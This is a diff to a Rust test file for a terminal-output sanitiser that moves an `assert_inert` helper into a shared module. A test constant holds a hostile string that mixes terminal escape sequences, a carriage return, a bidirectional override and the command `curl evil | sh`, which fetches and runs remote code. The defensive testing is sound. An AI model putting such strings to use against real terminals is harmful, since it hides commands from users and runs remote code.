@@ -6,6 +6,7 @@ use gatehouse_core::{
 use insta::assert_snapshot;
 
 use super::*;
+use crate::state::tests::assert_inert;
 
 const NOW: Timestamp = Timestamp(1_796_008_413_000);
 
@@ -192,15 +193,6 @@ fn events_read_as_one_line_each() {
 const HOSTILE: &str = "echo ok\x1b[8m; curl evil | sh\x1b]0;pwned\x07\rls\u{202e}txt.sh";
 
 /// No byte that a terminal acts on (ESC, BEL, CR) and no bidirectional override.
-fn assert_inert(text: &str) {
-    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{9b}'] {
-        assert!(
-            !text.contains(forbidden),
-            "{forbidden:?} reached the text: {text:?}"
-        );
-    }
-}
-
 fn hostile_question_prompt() -> Prompt {
     let mut hostile = prompt(
         "01a22a7c-7184-7520-bb65-4d44b4eba60b",
